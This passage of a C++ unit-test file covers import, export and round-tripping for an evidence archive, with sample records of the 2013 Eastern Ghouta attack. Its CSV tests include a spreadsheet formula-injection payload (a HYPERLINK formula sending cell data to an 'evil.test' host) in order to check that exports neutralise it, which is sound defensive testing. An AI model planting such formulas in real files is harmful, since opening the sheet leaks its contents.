  EXPECT_EQ(photo->titles, (catalog::LangMap{{"ar", "صورة"}}));
  EXPECT_EQ(photo->original, "i3");
}

TEST(Import, LongNotesAndLinksSurviveTheExport) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  WriteTestFile(tmp.Join("in/f.txt"), "some bytes");
  const std::string note(40000, 'n');  // stored as a blob, not in the entry
  Json line{{"path", "f.txt"}, {"ref", "f"}, {"note", note}};
  WriteTestFile(tmp.Join("in/long.jsonl"),
                line.dump() + "\n" +
                    R"({"kind":"case","ref":"c","title":"A case","lang":"fr"})"
                    "\n" +
                    R"({"kind":"link","case":"c","items":["f"]})"
                    "\n");
  ImportReport r = MustImport(*a, tmp.Join("in/long.jsonl"));
  EXPECT_EQ(r.notes, 1u);
  EXPECT_EQ(r.entries, 3u);
  auto notes = a->catalog().Notes("i1");
  ASSERT_TRUE(notes.ok());
  ASSERT_EQ(notes->size(), 1u);
  EXPECT_TRUE((*notes)[0].text_sha256.has_value());
  const std::string e1 = Export(*a, "jsonl");
  EXPECT_NE(e1.find(note), std::string::npos);
  // The link line came right after its case: the export joins them.
  EXPECT_NE(e1.find(R"({"kind":"case","ref":"case3","title":{"fr":"A case"},"exhibits":["i1"]})"),
            std::string::npos)
      << e1;
  WriteTestFile(tmp.Join("x/e1.jsonl"), e1);
  auto b = NewArchive(tmp.Join("b"));
  AddFiles(*b, {tmp.Join("in/f.txt")});
  MustImport(*b, tmp.Join("x/e1.jsonl"));
  EXPECT_EQ(Export(*b, "jsonl"), e1);
}

// An unlink line takes back a link made earlier in the file or in the archive,
// with its reason; export-catalog writes it back and a fresh archive imports
// the same history. One of an item not linked, or without a reason, is a problem.
TEST(Import, UnlinkLinesRoundTripAndMustTakeBackALink) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  WriteTestFile(tmp.Join("in/f.txt"), "first bytes");
  WriteTestFile(tmp.Join("in/g.txt"), "second bytes");
  WriteTestFile(tmp.Join("in/bad.jsonl"),
                R"({"path":"f.txt","ref":"f"})"
                "\n"
                R"({"path":"g.txt","ref":"g"})"
                "\n"
                R"({"kind":"incident","ref":"n","title":"An attack","lang":"en","items":["f"]})"
                "\n"
                R"({"kind":"unlink","incident":"n","items":["g"],"reason":"never linked"})"
                "\n"
                R"({"kind":"unlink","incident":"n","items":["f"]})"
                "\n");
  auto bad = Import(*a, tmp.Join("in/bad.jsonl"), ImportOptions{});
  ASSERT_TRUE(bad.ok()) << bad.status().ToString();
  EXPECT_TRUE(Has(bad->problems, 4, "items", "is added by this import")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 5, "reason", "needs a reason")) << Shown(bad->problems);
  EXPECT_EQ(bad->problems.size(), 2u) << Shown(bad->problems);
  EXPECT_EQ(a->log().size(), 1u);

  WriteTestFile(tmp.Join("in/good.jsonl"),
                R"({"path":"f.txt","ref":"f"})"
                "\n"
                R"({"path":"g.txt","ref":"g"})"
                "\n"
                R"({"kind":"incident","ref":"n","title":"An attack","lang":"en","items":["f","g"]})"
                "\n"
                R"({"kind":"unlink","incident":"n","items":["g"],"reason":"another town"})"
                "\n");
  MustImport(*a, tmp.Join("in/good.jsonl"));
  auto inc = a->catalog().Entity("inc3");
  ASSERT_TRUE(inc.ok()) << inc.status().ToString();
  EXPECT_EQ(inc->items, std::vector<std::string>{"i1"});
  // In the archive now: unlinked again from a second file is a problem; the link
  // to i1 can be taken back.
  WriteTestFile(tmp.Join("in/more.jsonl"),
                R"({"kind":"unlink","incident":"inc3","items":["i2"],"reason":"again"})"
                "\n");
  auto more = Import(*a, tmp.Join("in/more.jsonl"), ImportOptions{});
  ASSERT_TRUE(more.ok());
  EXPECT_TRUE(Has(more->problems, 1, "items", "nothing to take back")) << Shown(more->problems);
  // A file this import adds is not yet an item whose links can be told, even
  // when its bytes are those of i1 (linked to inc3): named by path, refused.
  WriteTestFile(tmp.Join("in/by-path.jsonl"),
                R"({"path":"f.txt","ref":"f"})"
                "\n"
                R"({"kind":"unlink","incident":"inc3","items":["f"],"reason":"by path"})"
                "\n"
                R"({"kind":"unlink","incident":"inc3","items":["i1"],"reason":7})"
                "\n");
  auto by_path = Import(*a, tmp.Join("in/by-path.jsonl"), ImportOptions{});
  ASSERT_TRUE(by_path.ok());
  EXPECT_TRUE(Has(by_path->problems, 2, "items", "name the item by its id or sha256"))
      << Shown(by_path->problems);
  EXPECT_TRUE(Has(by_path->problems, 3, "reason", "must be a string")) << Shown(by_path->problems);
  EXPECT_EQ(by_path->problems.size(), 2u) << Shown(by_path->problems);
  const std::string e1 = Export(*a, "jsonl");
  EXPECT_NE(
      e1.find(R"({"kind":"unlink","incident":"inc3","items":["i2"],"reason":"another town"})"),
      std::string::npos)
      << e1;
  WriteTestFile(tmp.Join("x/e1.jsonl"), e1);
  auto b = NewArchive(tmp.Join("b"));
  AddFiles(*b, {tmp.Join("in/f.txt"), tmp.Join("in/g.txt")});
  MustImport(*b, tmp.Join("x/e1.jsonl"));
  EXPECT_EQ(Export(*b, "jsonl"), e1);
}

TEST(Import, WithdrawLinesRoundTripAndMustTakeBackAClaimThatStands) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  WriteTestFile(tmp.Join("in/f.txt"), "an order");
  const std::string actors =
      R"({"path":"f.txt","ref":"f"})"
      "\n"
      R"({"kind":"actor","ref":"u","type":"unit","names":{"en":"A brigade"}})"
      "\n"
      R"({"kind":"actor","ref":"d","type":"unit","names":{"en":"A division"}})"
      "\n";
  WriteTestFile(
      tmp.Join("in/bad.jsonl"),
      actors +
          R"({"kind":"relation","ref":"r","subject":"u","predicate":"subordinate_of","object":"d","sources":[{"item":"f","confidence":"low"}]})"
          "\n"
          R"({"kind":"withdraw","relation":"r"})"
          "\n"
          R"({"kind":"withdraw","relation":"u","reason":"not a relation"})"
          "\n"
          R"({"kind":"withdraw","relation":"r","reason":"first"})"
          "\n"
          R"({"kind":"withdraw","relation":"r","reason":"twice"})"
          "\n"
          R"({"kind":"withdraw","relation":"rel99","reason":"no such"})"
          "\n");
  auto bad = Import(*a, tmp.Join("in/bad.jsonl"), ImportOptions{});
  ASSERT_TRUE(bad.ok()) << bad.status().ToString();
  EXPECT_TRUE(Has(bad->problems, 5, "reason", "needs a reason")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 6, "relation", "is an actor")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 8, "relation", "withdrawn already")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 9, "relation", "no relation rel99")) << Shown(bad->problems);
  EXPECT_EQ(bad->problems.size(), 4u) << Shown(bad->problems);
  EXPECT_EQ(a->log().size(), 1u);

  WriteTestFile(
      tmp.Join("in/good.jsonl"),
      actors +
          R"({"kind":"relation","ref":"r","subject":"u","predicate":"subordinate_of","object":"d","sources":[{"item":"f","confidence":"low"}]})"
          "\n"
          R"({"kind":"relation","subject":"d","predicate":"commands","object":"u","sources":[{"item":"f","confidence":"high"}]})"
          "\n"
          R"({"kind":"withdraw","relation":"r","reason":"the order is of another year"})"
          "\n");
  MustImport(*a, tmp.Join("in/good.jsonl"));
  auto rels = a->catalog().Relations("ac2");
  ASSERT_TRUE(rels.ok()) << rels.status().ToString();
  ASSERT_EQ(rels->size(), 1u);
  EXPECT_EQ(rels->front().predicate, "commands");
  // In the archive now: withdrawn again from a second file is a problem.
  WriteTestFile(tmp.Join("in/more.jsonl"),
                R"({"kind":"withdraw","relation":"rel4","reason":"again"})"
                "\n");
  auto more = Import(*a, tmp.Join("in/more.jsonl"), ImportOptions{});
  ASSERT_TRUE(more.ok());
  EXPECT_TRUE(Has(more->problems, 1, "relation", "withdrawn already")) << Shown(more->problems);
  const std::string e1 = Export(*a, "jsonl");
  EXPECT_NE(
      e1.find(R"({"kind":"withdraw","relation":"rel4","reason":"the order is of another year"})"),
      std::string::npos)
      << e1;
  EXPECT_NE(e1.find(R"("kind":"relation","ref":"rel4")"), std::string::npos) << e1;
  WriteTestFile(tmp.Join("x/e1.jsonl"), e1);
  auto b = NewArchive(tmp.Join("b"));
  AddFiles(*b, {tmp.Join("in/f.txt")});
  MustImport(*b, tmp.Join("x/e1.jsonl"));
  EXPECT_EQ(Export(*b, "jsonl"), e1);
  // A second withdrawal in the log (allowed there; it changes nothing) and an
  // unlink of an item not linked are not exported: import would refuse them.
  const std::string incident = "inc" + std::to_string(a->log().size());
  ASSERT_TRUE(
      a->Record({{{"type", "incident.added"}, {"title", {{"en", "An attack"}}}},
                 {{"type", "relation.withdrawn"}, {"relation", "rel4"}, {"reason", "said twice"}},
                 {{"type", "incident.unlinked"},
                  {"incident", incident},
                  {"items", {"i1"}},
                  {"reason", "never linked"}}})
          .ok());
  const std::string e2 = Export(*a, "jsonl");
  EXPECT_NE(e2.find(R"("ref":")" + incident + R"(")"), std::string::npos) << e2;
  EXPECT_EQ(e2.find("said twice"), std::string::npos) << e2;
  EXPECT_EQ(e2.find("never linked"), std::string::npos) << e2;
}

// A withdraw line takes back a case event (case.event_withdrawn) as it does a
// claim: by ref or id, once, with a reason; export-catalog writes it after the
// event, which now has a ref, and the file imports into another archive.
TEST(Import, WithdrawLinesTakeBackACaseEventAndRoundTrip) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  WriteTestFile(tmp.Join("in/f.txt"), "a warrant");
  const std::string head =
      R"({"path":"f.txt","ref":"f"})"
      "\n"
      R"({"kind":"case","ref":"c","title":{"en":"A complaint"}})"
      "\n"
      R"({"kind":"case_event","ref":"e","case":"c","type":"warrant","date":"2023-11-15","documents":["f"]})"
      "\n";
  WriteTestFile(tmp.Join("in/bad.jsonl"),
                head + R"({"kind":"withdraw","event":"e","relation":"e","reason":"both"})"
                       "\n"
                       R"({"kind":"withdraw","event":"c","reason":"a case"})"
                       "\n"
                       R"({"kind":"withdraw","event":"e"})"
                       "\n"
                       R"({"kind":"withdraw","event":"e","reason":"first"})"
                       "\n"
                       R"({"kind":"withdraw","event":"e","reason":"twice"})"
                       "\n");
  auto bad = Import(*a, tmp.Join("in/bad.jsonl"), ImportOptions{});
  ASSERT_TRUE(bad.ok()) << bad.status().ToString();
  EXPECT_TRUE(Has(bad->problems, 4, "relation", "one of")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 5, "event", "is a case")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 6, "reason", "why the event is taken back"))
      << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 8, "event", "withdrawn already")) << Shown(bad->problems);
  EXPECT_EQ(bad->problems.size(), 4u) << Shown(bad->problems);
  EXPECT_EQ(a->log().size(), 1u);

  WriteTestFile(
      tmp.Join("in/good.jsonl"),
      head +
          R"({"kind":"withdraw","event":"e","reason":"the wrong day"})"
          "\n"
          R"({"kind":"case_event","case":"c","type":"warrant","date":"2023-11-14","documents":["f"]})"
          "\n");
  MustImport(*a, tmp.Join("in/good.jsonl"));
  auto events = a->catalog().Entities(EntityKind::kCaseEvent);
  ASSERT_TRUE(events.ok());
  ASSERT_EQ(events->size(), 1u);
  EXPECT_EQ(events->front().date, "2023-11-14");
  auto kase = a->catalog().Entity("case2");
  ASSERT_TRUE(kase.ok()) << kase.status().ToString();
  ASSERT_EQ(kase->events_withdrawn.size(), 1u);
  EXPECT_EQ(kase->events_withdrawn[0].event, "ev3");
  EXPECT_EQ(kase->events_withdrawn[0].date, "2023-11-15");
  EXPECT_EQ(kase->events_withdrawn[0].reason, "the wrong day");
  // In the archive now: withdrawn again from a second file is a problem.
  WriteTestFile(tmp.Join("in/more.jsonl"), R"({"kind":"withdraw","event":"ev3","reason":"again"})"
                                           "\n");
  auto more = Import(*a, tmp.Join("in/more.jsonl"), ImportOptions{});
  ASSERT_TRUE(more.ok());
  EXPECT_TRUE(Has(more->problems, 1, "event", "withdrawn already")) << Shown(more->problems);
  const std::string e1 = Export(*a, "jsonl");
  EXPECT_NE(e1.find(R"({"kind":"withdraw","event":"ev3","reason":"the wrong day"})"),
            std::string::npos)
      << e1;
  EXPECT_NE(e1.find(R"("kind":"case_event","ref":"ev3")"), std::string::npos) << e1;
  WriteTestFile(tmp.Join("x/e1.jsonl"), e1);
  auto b = NewArchive(tmp.Join("b"));
  AddFiles(*b, {tmp.Join("in/f.txt")});
  MustImport(*b, tmp.Join("x/e1.jsonl"));
  EXPECT_EQ(Export(*b, "jsonl"), e1);
}

TEST(Import, JsonlExportNeedsTheFiles) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  MustImport(*a, kData + "/graph.jsonl");
  WriteTestFile(tmp.Join("x/catalogue.jsonl"), Export(*a, "jsonl"));
  auto b = NewArchive(tmp.Join("b"));
  auto r = Import(*b, tmp.Join("x/catalogue.jsonl"), ImportOptions{});
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(Has(r->problems, 1, "sha256", "add the file first")) << Shown(r->problems);
  EXPECT_TRUE(Has(r->problems, 3, "id", "names nothing")) << Shown(r->problems);
  EXPECT_EQ(b->log().size(), 1u);
}

TEST(Import, CsvExportRoundTrips) {
  TempDir tmp;
  auto a = ItemsCsvArchive(tmp.Join("a"));
  MustImport(*a, kData + "/items.csv");
  // A reviewed item: its latest review goes out in status and reason.
  const std::string reviewed = a->catalog().Items()->front().id;
  WriteTestFile(tmp.Join("review.csv"),
                "id,status,reason\n" + reviewed + ",disputed,\"=shadows point north\"\n");
  MustImport(*a, tmp.Join("review.csv"));
  const std::string c1 = Export(*a, "csv");
  EXPECT_NE(c1.find(",disputed,'=shadows point north\r\n"), std::string::npos) << c1;
  EXPECT_EQ(c1.substr(0, c1.find("\r\n")),
            "id,sha256,language,title,description,event_date,place,lat,lon,tags,incident,status,"
            "reason");
  EXPECT_NE(c1.find("\"He said \"\"rockets\"\" came\nat 02:30\""), std::string::npos) << c1;
  EXPECT_NE(c1.find(",Zamalka,33.5214,36.3553,"), std::string::npos) << c1;
  EXPECT_NE(c1.find(",Chemical attack on Eastern Ghouta,,\r\n"), std::string::npos) << c1;

  const std::string file = tmp.Join("x/items.csv");
  WriteTestFile(file, c1);
  // The same items in the same order, and the same places.
  auto b = ItemsCsvArchive(tmp.Join("b"));
  AddFiles(*b, {kData + "/files/statement.txt", kData + "/files/photo.bin"});
  ImportReport r = MustImport(*b, file);
  EXPECT_EQ(r.files, 0u);
  EXPECT_EQ(Export(*b, "csv"), c1);
}

TEST(Csv, SpreadsheetTextRoundTripsAndNeverStartsAFormula) {
  for (std::string s : {"=HYPERLINK(\"http://x.test/?\"&A1)", "+1", "-dash", "@SUM(A1)", "\tx",
                        "'=quoted", "''-two", "'Til", "plain", "", "'", "=", "زملكا"}) {
    std::string cell = ToSpreadsheetText(s);
    EXPECT_EQ(FromSpreadsheetText(cell), s) << cell;
    size_t first = cell.find_first_not_of('\'');
    if (first != std::string::npos &&
        std::string("=+-@\t\r").find(cell[first]) != std::string::npos) {
      EXPECT_TRUE(cell.starts_with('\'')) << "a spreadsheet would run " << cell;
    }
  }
  EXPECT_EQ(ToSpreadsheetText("=1+1"), "'=1+1");
  EXPECT_EQ(ToSpreadsheetText("'Til"), "'Til");
  EXPECT_EQ(FromSpreadsheetText("'Til"), "'Til");
}

TEST(Import, CsvExportOfFormulaLikeTextIsInertAndRoundTrips) {
  TempDir tmp;
  auto a = ItemsCsvArchive(tmp.Join("a"));
  const std::string in = tmp.Join("in/formula.csv");
  WriteTestFile(in,
                "id,title,description,tags\n"
                "i2,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"open\"\")\",-5 dead,@risk;ok\n");
  MustImport(*a, in);
  const std::string csv = Export(*a, "csv");
  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'-5 dead,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'@risk;ok,"), std::string::npos) << csv;
  // Read back, the apostrophes come off: the same text, and the same export.
  const std::string file = tmp.Join("x/items.csv");
  WriteTestFile(file, csv);
  auto b = ItemsCsvArchive(tmp.Join("b"));
  MustImport(*b, file);
  EXPECT_EQ(Export(*b, "csv"), csv);
  EXPECT_EQ(Export(*b, "jsonl"), Export(*a, "jsonl"));
}

TEST(Import, GhoutaExampleImportsCleanly) {
  const std::string file = kExamples + "/ghouta-2013/case.jsonl";
  if (!fs::exists(file)) GTEST_SKIP() << file << " is not there yet";
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  ImportReport r = MustImport(*a, file);
  EXPECT_GT(r.files, 0u);
  EXPECT_GT(r.entities, 0u);
  EXPECT_EQ(a->log().size(), r.first_leaf + r.entries);
  // And its export goes back in.
  WriteTestFile(tmp.Join("x/case.jsonl"), Export(*a, "jsonl"));
  auto b = NewArchive(tmp.Join("b"));
  auto items = a->catalog().Items();
  ASSERT_TRUE(items.ok());
  std::vector<std::string> paths;
  for (const auto& item : *items) {
    auto sources = a->catalog().Sources(item.id);
    ASSERT_TRUE(sources.ok());
    paths.push_back(sources->front().path);
  }
  AddFiles(*b, paths);
  MustImport(*b, tmp.Join("x/case.jsonl"));
  EXPECT_EQ(Export(*b, "jsonl"), Export(*a, "jsonl"));
}

// Entities are never merged: the same graph imported again would make each
// of its names name two entities, and every later use of those names fail.
// Refused whole, naming what the archive has already.
TEST(Import, TheSameGraphImportedTwiceIsRefused) {
  const std::string file = kExamples + "/ghouta-2013/case.jsonl";
  if (!fs::exists(file)) GTEST_SKIP() << file << " is not there yet";
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  MustImport(*a, file);
  const uint64_t size = a->log().size();
  auto again = Import(*a, file, ImportOptions{});
  ASSERT_TRUE(again.ok()) << again.status().ToString();
  const auto& p = again->problems;
  EXPECT_TRUE(std::any_of(p.begin(), p.end(), [](const ImportProblem& x) {
    return x.column == "names" &&
           x.what.find("the archive already has a place named \"زملكا\"") != std::string::npos;
  })) << Shown(p);
  EXPECT_EQ(a->log().size(), size);
  EXPECT_EQ(EntityByName(*a, EntityKind::kPlace, "Zamalka").empty(), false);
}

// A new archive in `tmp` holding one text file, its id in `ids`.
std::unique_ptr<Archive> ArchiveWithOneFile(TempDir& tmp, std::vector<std::string>* ids) {
  auto a = NewArchive(tmp.Join("ar"));
  WriteTestFile(tmp.Join("in/f.txt"), "a file\n");
  *ids = AddFiles(*a, {tmp.Join("in/f.txt")});
  EXPECT_EQ(ids->size(), 1u);
  ids->resize(1);
  return a;
}

// The entries of the log from `from` on, parsed.
std::vector<Json> EntriesFrom(const Archive& a, uint64_t from) {
  std::vector<Json> out;
  core::Status s = a.log().ForEachEntry(from, a.log().size(), [&](uint64_t, std::string_view b) {
    auto e = catalog::ParseEntry(b);
    if (!e.ok()) return e.status();
    out.push_back(*e);
    return core::Status::Ok();
  });
  EXPECT_TRUE(s.ok()) << s.ToString();
  return out;
}

// A file imported twice records nothing new the second time: what it says of
// each item the archive already says. What is new in a file is still recorded,
// and only that, and entities it creates get the ids their place in the batch
// gives them.
TEST(Import, AFileImportedTwiceRecordsNothingNew) {
  TempDir tmp;
  std::vector<std::string> ids;
  auto a = ArchiveWithOneFile(tmp, &ids);
  WriteTestFile(tmp.Join("in/inc.jsonl"), R"({"kind":"incident","title":{"en":"Attack"}})"
                                          "\n");
  MustImport(*a, tmp.Join("in/inc.jsonl"));
  WriteTestFile(tmp.Join("in/d.csv"),
                "id,title,language,event_date,lat,lon,tags,status,reason,incident,note\n" + ids[0] +
                    ",Rockets,en,2013-08-21,33.5,36.3,sarin;rockets,verified,geolocated,Attack,"
                    "seen twice\n" +
                    ids[0] + ",صواريخ,ar,,,,,,,,\n");
  ImportReport first = MustImport(*a, tmp.Join("in/d.csv"));
  // described (en), tagged, reviewed, linked, noted, described (ar)
  EXPECT_EQ(first.entries, 6u);
  EXPECT_EQ(first.unchanged, 0u);
  const uint64_t size = a->log().size();
  ExpectNothingNewAgain(*a, tmp.Join("in/d.csv"), 6);

  // A new date and one new tag: only those.
  WriteTestFile(tmp.Join("in/e.csv"),
                "id,title,event_date,tags\n" + ids[0] + ",Rockets,2013-08-22,sarin;victims\n");
  ImportReport more = MustImport(*a, tmp.Join("in/e.csv"));
  EXPECT_EQ(more.entries, 2u);
  auto added = EntriesFrom(*a, size);
  ASSERT_EQ(added.size(), 2u);
  EXPECT_EQ(added[0]["event_date"], "2013-08-22");
  EXPECT_FALSE(added[0].contains("title")) << added[0].dump();
  EXPECT_FALSE(added[0].contains("lang")) << added[0].dump();
  EXPECT_EQ(added[1]["add"], Json::array({"victims"}));

  // An unchanged line before a place the file creates: the place takes the
  // leaf it is recorded at, and the item names that place.
  WriteTestFile(tmp.Join("in/g.jsonl"),
                R"({"kind":"item","id":")" + ids[0] + R"(","title":"Rockets"})" + "\n" +
                    R"({"kind":"place","ref":"z","names":{"en":"Zamalka"}})" + "\n" +
                    R"({"kind":"item","id":")" + ids[0] + R"(","place":"z"})" + "\n");
  const uint64_t before_place = a->log().size();
  ImportReport graph = MustImport(*a, tmp.Join("in/g.jsonl"));
  EXPECT_EQ(graph.entries, 2u);
  EXPECT_EQ(graph.unchanged, 1u);
  const std::string place = EntityByName(*a, EntityKind::kPlace, "Zamalka");
  EXPECT_EQ(place, catalog::EntityId(EntityKind::kPlace, before_place));
  auto d = a->catalog().Details(ids[0]);
  ASSERT_TRUE(d.ok());
  EXPECT_EQ(d->place, place);
  EXPECT_EQ(d->event_date, "2013-08-22");
  EXPECT_EQ(d->titles, (catalog::LangMap{{"ar", "صواريخ"}, {"en", "Rockets"}}));

  // A copy and its original both named by path: the derivation is recorded once.
  WriteTestFile(tmp.Join("in/orig.bin"), "the original video");
  WriteTestFile(tmp.Join("in/clip.bin"), "a clip cut from it");
  WriteTestFile(tmp.Join("in/copy.csv"), "ref,path,original\nv,orig.bin,\nc,clip.bin,v\n");
  ImportReport copy = MustImport(*a, tmp.Join("in/copy.csv"));
  EXPECT_EQ(copy.entries, 1u);
  ExpectNothingNewAgain(*a, tmp.Join("in/copy.csv"), 1);
}

// What the command line refuses, import refuses too: year 0000, and a tag
// holding the ';' that separates tags in the CSV form (its export could not
// write it back).
TEST(Import, YearZeroAndASemicolonInATagAreProblems) {
  TempDir tmp;
  std::vector<std::string> ids;
  auto a = ArchiveWithOneFile(tmp, &ids);
  const uint64_t size = a->log().size();
  WriteTestFile(tmp.Join("in/y.csv"), "id,event_date\r\n" + ids[0] + ",0000\r\n");
  auto year = Import(*a, tmp.Join("in/y.csv"), ImportOptions{});
  ASSERT_TRUE(year.ok()) << year.status().ToString();
  EXPECT_TRUE(Has(year->problems, 2, "event_date", "year 0000")) << Shown(year->problems);
  WriteTestFile(tmp.Join("in/t.jsonl"),
                R"({"kind":"item","id":")" + ids[0] + R"(","tags":["sarin","a;b"]})" + "\n" +
                    R"({"kind":"incident","title":{"en":"Attack"},"date":"0000/2013"})" + "\n");
  auto tags = Import(*a, tmp.Join("in/t.jsonl"), ImportOptions{});
  ASSERT_TRUE(tags.ok()) << tags.status().ToString();
  EXPECT_TRUE(Has(tags->problems, 1, "tags", "holds a ';'")) << Shown(tags->problems);
  EXPECT_TRUE(Has(tags->problems, 2, "date", "year 0000")) << Shown(tags->problems);
  EXPECT_EQ(a->log().size(), size);
}

// What a spreadsheet saves, and the slips made filling one in, get one clear
// problem each (or are taken as meant), never a wall of per-row errors.
TEST(Import, SpreadsheetSavedFilesAreTakenOrGetOneClearProblem) {
  TempDir tmp;
  std::vector<std::string> ids;
  auto a = ArchiveWithOneFile(tmp, &ids);
  const uint64_t size = a->log().size();
  auto problems = [&](const std::string& name, const std::string& text) {
    WriteTestFile(tmp.Join("in/" + name), text);
    auto r = Import(*a, tmp.Join("in/" + name), ImportOptions{/*dry_run=*/true});
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return r.ok() ? r->problems : std::vector<ImportProblem>{};
  };
  // "Unicode text": UTF-16 with its byte order mark.
  auto p = problems("u16.csv", std::string("\xFF\xFE", 2) + std::string("i\0d\0\n\0", 6));
  ASSERT_EQ(p.size(), 1u) << Shown(p);
  EXPECT_TRUE(Has(p, 0, "", "UTF-16")) << Shown(p);
  // Separated by semicolons, as a French or German spreadsheet saves CSV.
  p = problems("semi.csv", "id;title\n" + ids[0] + ";A\n" + ids[0] + ";B\n");
  ASSERT_EQ(p.size(), 1u) << Shown(p);
  EXPECT_TRUE(Has(p, 1, "", "separated by semicolons")) << Shown(p);
  // A column named the way people name it is pointed to the right name.
  p = problems("date.csv", "id,Date\n" + ids[0] + ",2013-08-21\n");
  EXPECT_TRUE(Has(p, 1, "Date", "did you mean event_date?")) << Shown(p);
  p = problems("dmy.csv", "id,event_date\n" + ids[0] + ",21/08/2013\n");
  EXPECT_TRUE(Has(p, 2, "event_date", "Did you mean 2013-08-21")) << Shown(p);
  // Two rows that give one item two titles: which holds would depend on order.
  p = problems("twice.csv", "id,title,event_date\n" + ids[0] + ",Rockets,2013-08-21\n" + ids[0] +
                                ",Rockets,2013-08-21\n" + ids[0] + ",Rocket,2013-08-21\n");
  ASSERT_EQ(p.size(), 1u) << Shown(p);
  EXPECT_TRUE(Has(p, 4, "title", "row 2 gives this item another title in en, \"Rockets\""))
      << Shown(p);
  p = problems("lang.csv", "id,title,language\n" + ids[0] + ",A,Arabic\n");
  EXPECT_TRUE(Has(p, 2, "language", "did you mean ar?")) << Shown(p);
  WriteTestFile(tmp.Join("in/f.txt"), "a file\n");
  p = problems("both.csv", "path,url\nf.txt,https://example.org/v\n");
  EXPECT_TRUE(Has(p, 2, "path", "name that column source")) << Shown(p);
  {  // A Hijri year as a Gregorian one: valid, imported, and said.
    WriteTestFile(tmp.Join("in/hijri.csv"), "id,event_date\n" + ids[0] + ",1434-10-14\n");
    auto r = Import(*a, tmp.Join("in/hijri.csv"), ImportOptions{/*dry_run=*/true});
    ASSERT_TRUE(r.ok());
    EXPECT_TRUE(r->problems.empty()) << Shown(r->problems);
    EXPECT_TRUE(Has(r->warnings, 2, "event_date", "Hijri")) << Shown(r->warnings);
  }
  p = problems("typo.csv", "id,titel\n" + ids[0] + ",A\n");
  EXPECT_TRUE(Has(p, 1, "titel", "did you mean title?")) << Shown(p);
  // Arabic text with no language would be recorded as English for good.
  p = problems("ar.csv", "id,title\n" + ids[0] + ",هجوم الغوطة\n");
  EXPECT_TRUE(Has(p, 2, "language", "Arabic script")) << Shown(p);
  p = problems("ar.jsonl", R"({"kind":"place","names":"زملكا"})"
                           "\n");
  EXPECT_TRUE(Has(p, 1, "names", "Arabic script")) << Shown(p);
  // A workbook is named as one, not as an unknown format.
  WriteTestFile(tmp.Join("in/sheet.xlsx"), "PK");
  auto book = Import(*a, tmp.Join("in/sheet.xlsx"), ImportOptions{});
  EXPECT_EQ(book.status().code(), core::Code::kInvalidArgument);
  EXPECT_NE(book.status().message().find("CSV UTF-8"), std::string::npos)
      << book.status().ToString();
  EXPECT_EQ(a->log().size(), size);

  // Taken as meant: tags separated by commas or the Arabic comma, a language
  // in capitals, header names with hyphens and a no-break space.
  WriteTestFile(tmp.Join("in/ok.csv"), "ID,Event-Date,language\xC2\xA0,title,tags\n" + ids[0] +
                                           ",2013-08-21 00:00:00, AR ,هجوم,\"sarin, rockets\"\n" +
                                           ids[0] + ",,,,سارين، غوطة\n");
  MustImport(*a, tmp.Join("in/ok.csv"));
  auto d = a->catalog().Details(ids[0]);
  ASSERT_TRUE(d.ok());
  EXPECT_EQ(d->titles, (catalog::LangMap{{"ar", "هجوم"}}));
  EXPECT_EQ(d->event_date, "2013-08-21");  // a date cell's midnight is not part of the day
  std::vector<std::string> tags = d->tags;
  std::sort(tags.begin(), tags.end());
  EXPECT_EQ(tags, (std::vector<std::string>{"rockets", "sarin", "سارين", "غوطة"}));
  WriteTestFile(tmp.Join("in/status.csv"), "id,status,reason\n" + ids[0] + ",Verified ,seen\n");
  MustImport(*a, tmp.Join("in/status.csv"));
  d = a->catalog().Details(ids[0]);
  ASSERT_TRUE(d.ok());
  EXPECT_EQ(d->status, "verified");
}

// A blank name is no name: it could never be looked up. A source given twice
// with two confidences leaves the choice to the analyst, not to the importer;
// given twice alike, it is one source (as `relation add` takes it).
TEST(Import, BlankNamesAndASourceWithTwoConfidencesAreProblems) {
  TempDir tmp;
  std::vector<std::string> ids;
  auto a = ArchiveWithOneFile(tmp, &ids);
  const uint64_t size = a->log().size();
  const std::string src = R"({"item":")" + ids[0] + R"(","confidence":)";
  WriteTestFile(
      tmp.Join("in/g.jsonl"),
      std::string(R"({"kind":"place","names":"   "})") + "\n" +
          R"({"kind":"actor","type":"unit","ref":"a","names":{"en":"Unit A","ar":" \t"}})" + "\n" +
          R"({"kind":"actor","type":"unit","ref":"b","names":{"en":"Unit B"},"variants":[" "]})" +
          "\n" + R"({"kind":"relation","subject":"a","predicate":"commands",)" +
          R"("object":"b","sources":[)" + src + R"("high"},)" + src + R"("low"}]})" + "\n" +
          R"({"kind":"relation","subject":"b","predicate":"member_of",)" +
          R"("object":"a","sources":[)" + src + R"("high"},)" + src + R"("high"}]})" + "\n");
  auto r = Import(*a, tmp.Join("in/g.jsonl"), ImportOptions{});
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  const auto& p = r->problems;
  EXPECT_TRUE(Has(p, 1, "names", "a place needs names")) << Shown(p);
  EXPECT_TRUE(Has(p, 2, "names.ar", "not blank")) << Shown(p);
  EXPECT_TRUE(Has(p, 3, "variants[0]", "not blank")) << Shown(p);
  EXPECT_TRUE(Has(p, 4, "sources[1].item", "with confidence low against high")) << Shown(p);
  EXPECT_EQ(p.size(), 4u) << Shown(p);  // line 5's repeated source is one source
  EXPECT_EQ(a->log().size(), size);
}

// A source with no confidence lends medium, as `relation add --source ITEM` does.
